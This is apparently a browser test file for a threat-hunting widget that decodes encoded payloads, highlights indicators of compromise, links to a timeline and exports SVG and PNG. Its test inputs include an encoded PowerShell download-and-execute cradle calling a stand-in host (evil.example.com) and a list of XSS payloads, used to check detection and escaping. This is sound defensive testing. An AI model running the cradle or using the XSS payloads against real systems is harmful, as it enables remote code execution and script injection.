// Browser tests of the payload view in headless Chromium: MSTICPy's test payloads decoded
// into a layer tree (the engine in its Web Worker), keyboard and click navigation,
// indicators highlighted and listed, selection of input rows, a linked timeline, export,
// and hostile text in every slot.
//
// Run: node --test tests/browser/payload.test.mjs   (after `node widgets/build.mjs`).
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { outside, problems, useBrowser } from "./harness.mjs";

const require = createRequire(new URL("../../js/package.json", import.meta.url));
const arrow = require("apache-arrow");
const repo = fileURLToPath(new URL("../..", import.meta.url));
const data = (f) => readFile(join(repo, "examples", "data", f), "utf8");
const encoded = (script) => `powershell -enc ${Buffer.from(script, "utf16le").toString("base64")}`;

const env = useBrowser();
const open = () => env.open("/tests/browser/payload.html", { width: 1200, height: 1000 });

const scanned = (page) => page.waitForFunction(() => document.querySelector(".hk-pl")?.dataset.indicators !== undefined);
const rowsOf = (page, trait) => page.evaluate(async (trait) => {
  const { fromIPC } = await import("/js/dist/browser.js");
  const dv = window.model.get(trait);
  return fromIPC(new Uint8Array(dv.buffer, dv.byteOffset, dv.byteLength)).toArray().map((r) => ({ ...r.toJSON() }));
}, trait);

/** Command lines with times: an Arrow IPC stream (base64) for the view and a timeline. */
function events(cmds) {
  const t0 = Date.UTC(2024, 0, 1);
  const table = new arrow.Table({
    TimeGenerated: arrow.vectorFromArray(cmds.map((_, i) => new Date(t0 + i * 60000)), new arrow.TimestampMillisecond()),
    CommandLine: arrow.vectorFromArray(cmds, new arrow.Utf8()),
  });
  return Buffer.from(arrow.tableToIPC(table, "stream")).toString("base64");
}
const setIPC = (page, b64) => page.evaluate((b64) => {
  const bin = atob(b64);
  const u = new Uint8Array(bin.length);
  for (let i = 0; i < u.length; i++) u[i] = bin.charCodeAt(i);
  window.__ipc = u;
}, b64);

test("base64msg.txt: the layer tree, keyboard navigation, hex and text layers, result", async () => {
  const page = await open();
  const text = await data("base64msg.txt");
  await page.evaluate((text) => window.mountPayload({ text }), text);
  await scanned(page);
  assert.equal(await page.locator(".hk-pl").getAttribute("data-ready"), "1");
  const result = await rowsOf(page, "result");
  assert.equal(result.length, 16, "the decoder's 16 records");
  assert.deepEqual(result.filter((r) => r.file_name === "dllenc.txt").map((r) => r.md5), ["9fd687fb66a85f89cc413728a179fb0d", "9fd687fb66a85f89cc413728a179fb0d"]);
  const iocs = await rowsOf(page, "indicators");
  // Its only hex run of digest length is a base64 line of zero bytes, which is no digest.
  assert.deepEqual(iocs, []);
  assert.equal(await page.locator(".hk-pl .hk-status").textContent(), "16 layers · 0 indicators");
  // The payload: its text and the two archives' runs marked.
  assert.equal(await page.locator(".hk-text .hk-run").count(), 3, "two runs, the tar's in two blocks");
  assert.equal(await page.locator(".hk-text .hk-ioc").count(), 0);
  // Keyboard: down to the tar (binary → hex), right into its first member (text).
  await page.locator(".hk-tree").focus();
  await page.keyboard.press("ArrowDown");
  assert.match(await page.locator(".hk-hex").textContent(), /^00000000 {2}64 6c 6c 65 6e 63 2e 74 {2}78 74 00 00 00 00 00 00 {2}\|dllenc.txt\.\.\.\.\.\.\|/);
  await page.keyboard.press("ArrowRight");
  assert.match(await page.locator(".hk-meta").textContent(), /File namedllenc\.txt.*MD59fd687fb66a85f89cc413728a179fb0d/);
  assert.match(await page.locator(".hk-text").textContent(), /^-----BEGIN CERTIFICATE-----/);
  await page.click(".hk-ctl button:has-text('Hex')");
  assert.match(await page.locator(".hk-hex").textContent(), /\|-----BEGIN CERTI\|/);
  // Left folds dllenc.txt, goes up to the tar, then folds the tar.
  await page.locator(".hk-tree").focus();
  for (let i = 0; i < 3; i++) await page.keyboard.press("ArrowLeft");
  assert.equal(await page.locator(".hk-node:visible").count(), 10, "the payload, the tar folded, the zip's 8 nodes");
  await page.click(".hk-bar button:has-text('Expand all')");
  assert.equal(await page.locator(".hk-node:visible").count(), 17);
  // A click on an encoded run opens the layer it decodes to.
  await page.locator(".hk-node:visible", { hasText: "Payload" }).click();
  // (A run wraps over lines: click inside its first line box.)
  const box = await page.locator(".hk-text .hk-run[title='Encoded run: open layer 2']").first().evaluate((el) => {
    el.scrollIntoView();
    const r = el.getClientRects()[0];
    return { x: r.left + r.width / 2, y: r.top + r.height / 2 };
  });
  await page.mouse.click(box.x, box.y);
  assert.match(await page.locator(".hk-meta").textContent(), /Layer2Typezip/);
  // A text is not a table: no input rows to select.
  assert.deepEqual(await page.evaluate(() => window.model.get("selected_indices")), undefined);
  assert.deepEqual(problems(page), []);
  await page.close();
});

test("b64text_inzip.txt and a nested PowerShell payload: indicators in decoded layers", async () => {
  const page = await open();
  await page.evaluate((text) => window.mountPayload({ text }), await data("b64text_inzip.txt"));
  await scanned(page);
  assert.deepEqual((await rowsOf(page, "result")).map((r) => [r.reference, r.file_type ?? r.encoding_type]), [["1", "zip"], ["1.1", "utf-8"], ["1.1.1", "utf-16"]]);
  const inner = `IEX (New-Object Net.WebClient).DownloadString('hxxp://evil[.]example.com/a.ps1'); iwr http://203.0.113.7/x`;
  const text = `cmd /c ${encoded(`$x = '${Buffer.from(encoded(inner)).toString("base64")}'`)}`;
  await page.evaluate((text) => window.mountPayload({ text }), text);
  await scanned(page);
  const iocs = await rowsOf(page, "indicators");
  const url = iocs.find((r) => r.IoCType === "url" && r.raw.startsWith("hxxp"));
  assert.equal(url.Observable, "http://evil.example.com/a.ps1");
  assert.equal(url.defanged, true);
  assert.ok(url.Layer.split(".").length >= 2, `found in a nested layer (${url.Layer})`);
  // Filtering the table, then activating a row opens its layer at the indicator.
  await page.fill(".hk-iocbar input", "evil");
  assert.equal(await page.locator(".hk-count").textContent(), `2 of ${iocs.length} indicators`);
  await page.locator(".hk-grid-row:visible", { hasText: "hxxp://evil" }).click();
  assert.match(await page.locator(".hk-meta").textContent(), new RegExp(`Layer${url.Layer.replace(/\./g, "\\.")}`));
  assert.equal(await page.locator(".hk-text .hk-flash").textContent(), "hxxp://evil[.]example.com/a.ps1");
  // Type chips hide a type; "Copy refanged" copies the listed values.
  await page.fill(".hk-iocbar input", "");
  await page.click(".hk-chip:has-text('dns')");
  assert.equal(await page.locator(".hk-grid-row:visible", { hasText: "dns" }).count(), 0);
  await env.context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: env.url });
  await page.click(".hk-iocbar button:has-text('Copy refanged')");
  await page.waitForFunction(() => /copied/.test(document.querySelector(".hk-pl .hk-status").textContent));
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  assert.ok(copied.split("\n").includes("http://evil.example.com/a.ps1"), copied);
  assert.ok(!copied.includes("hxxp"), "refanged values");
  assert.deepEqual(problems(page), []);
  await page.close();
});

test("a table column: selection, a linked timeline, export", async () => {
  const page = await open();
  const cmds = ["cmd.exe /c whoami", encoded("iwr http://198.51.100.4/a"), await data("base64msg.txt"), "ping 8.8.8.8", encoded("Write-Host admin@corp.example.org")];
  await setIPC(page, events(cmds));
  await page.evaluate(() => window.mountTimeline({ data: new DataView(window.__ipc.buffer), group: "g" }));
  await page.evaluate(() => window.mountPayload({ data: new DataView(window.__ipc.buffer), column: "CommandLine", group: "g" }));
  await scanned(page);
  const labels = await page.locator(".hk-node:visible .hk-label").allTextContents();
  assert.ok(labels[0].startsWith("Row 2: There should be a tar file"), "most layers first");
  const result = await rowsOf(page, "result");
  assert.equal(result.length, 18);
  assert.deepEqual([...new Set(result.map((r) => Number(r.src_index)))].sort(), [1, 2, 4]);
  // Click Row 4 (scrolling the tree to it): selected_indices, and the timeline marks it.
  await page.click(".hk-bar button:has-text('Collapse all')");
  await page.locator(".hk-node:visible", { hasText: "Row 4:" }).click();
  assert.deepEqual(await page.evaluate(() => window.model.get("selected_indices")), [4]);
  await page.waitForFunction(() => /1 selected in linked views/.test(document.querySelector(".hk-tl").textContent));
  await page.locator(".hk-node:visible", { hasText: "Row 1:" }).click({ modifiers: ["Control"] });
  assert.deepEqual(await page.evaluate(() => window.model.get("selected_indices")), [1, 4]);
  // The timeline's selection comes back as linked rows.
  await page.evaluate(() => window.otherModel.set("selected", [2]));
  await page.evaluate(() => {
    // A Shift+drag in the timeline publishes through the link bus; simulate its publish.
    const bus = globalThis[Symbol.for("huntkit.links@0.1.0")].get("g");
    for (const member of bus) member.onSelection([2], null);
  });
  assert.equal(await page.locator(".hk-node.hk-linked", { hasText: "Row 2:" }).count(), 1);
  // Export: both files, non-empty, the SVG holding the tree's text.
  await page.click(".hk-pl .hk-bar button:has-text('SVG')");
  await page.click(".hk-pl .hk-bar button:has-text('PNG')");
  await page.waitForFunction(() => window.downloads.length === 2);
  const files = await page.evaluate(() => window.downloads);
  assert.deepEqual(files.map((f) => f.name).sort(), ["huntkit-payload.png", "huntkit-payload.svg"]);
  for (const f of files) assert.ok(f.size > 1000, `${f.name}: ${f.size} bytes`);
  const svg = files.find((f) => f.name.endsWith(".svg")).text;
  assert.match(svg, /^<svg /);
  assert.ok(svg.includes("Row 2: There should be a tar file"), "the tree's rows");
  assert.ok(svg.includes("198.51.100.4"), "the indicator table");
  assert.deepEqual(problems(page), []);
  await page.close();
});

const EVIL = [
  "<img src=x onerror=alert(1)>",
  "</script><script>alert(2)</script>",
  "javascript:alert(3)",
  "red;background:url(http://127.0.0.1:9/x)",
];

test("hostile text in every slot stays text", async () => {
  const page = await open();
  const evil = EVIL.join(" ");
  const body = `${evil} ${encoded(`${evil} http://198.51.100.4/${encodeURIComponent(EVIL[0])} ${evil}`)} ${evil}`;
  const column = EVIL[0];
  const t0 = Date.UTC(2024, 0, 1);
  const table = new arrow.Table({
    TimeGenerated: arrow.vectorFromArray([new Date(t0), new Date(t0 + 1000)], new arrow.TimestampMillisecond()),
    [column]: arrow.vectorFromArray([body, `${EVIL[1]} ${Buffer.from(`${evil}\u0000\u0001`).toString("base64")}`], new arrow.Utf8()),
  });
  await setIPC(page, Buffer.from(arrow.tableToIPC(table, "stream")).toString("base64"));
  await page.evaluate(([column, title, types]) => window.mountPayload({ data: new DataView(window.__ipc.buffer), column, title, ioc_types: types, theme: "dark" }), [column, evil, ["url", "dns", EVIL[0]]]);
  // An unknown IoC type is the engine's coded error, shown as text.
  await page.waitForFunction(() => document.querySelector(".hk-pl .hk-error").textContent.length > 0);
  assert.match(await page.locator(".hk-pl .hk-error").textContent(), /^unknown_type: unknown IoC type `<img src=x onerror=alert\(1\)>`/);
  await page.evaluate(() => window.model.set("ioc_types", ["url", "dns"]));
  await page.waitForFunction(() => document.querySelector(".hk-pl").dataset.indicators !== undefined);
  assert.equal(await page.locator(".hk-pl .hk-title").textContent(), evil);
  const labels = await page.locator(".hk-node:visible .hk-label").allTextContents();
  assert.ok(labels.some((l) => l.includes(EVIL[0])), labels.join("\n"));
  await page.click(".hk-bar button:has-text('Expand all')");
  for (const node of await page.locator(".hk-node:visible").all()) {
    await node.click();
    const shown = await page.locator(".hk-detail").textContent();
    assert.ok(shown.length > 0);
  }
  await page.locator(".hk-node:visible", { hasText: "utf-16" }).first().click();
  assert.ok((await page.locator(".hk-text").textContent()).includes(EVIL[1]));
  await page.click(".hk-pl .hk-bar button:has-text('SVG')");
  await page.click(".hk-pl .hk-bar button:has-text('PNG')");
  await page.waitForFunction(() => window.downloads.length === 2);
  const svg = (await page.evaluate(() => window.downloads)).find((f) => f.name.endsWith(".svg")).text;
  assert.ok(svg.includes("&lt;img src=x onerror=alert(1)&gt;"), "hostile text escaped in the SVG");
  assert.ok(!/<(img|script|a|foreignObject)[\s>]/i.test(svg), "no foreign elements in the SVG");
  const foreign = await page.evaluate(() => document.querySelectorAll(".hk-pl img, .hk-pl script, .hk-pl a, .hk-pl svg, .hk-pl [onerror], .hk-pl [onload], .hk-pl iframe").length);
  assert.equal(foreign, 0);
  const styled = await page.evaluate(() => [...document.querySelectorAll(".hk-pl *")].filter((n) => (n.getAttribute("style") ?? "").includes("url(")).length);
  assert.equal(styled, 0);
  await page.waitForTimeout(300);
  assert.deepEqual(outside(page), []);
  assert.deepEqual(problems(page), []);
  await page.close();
});
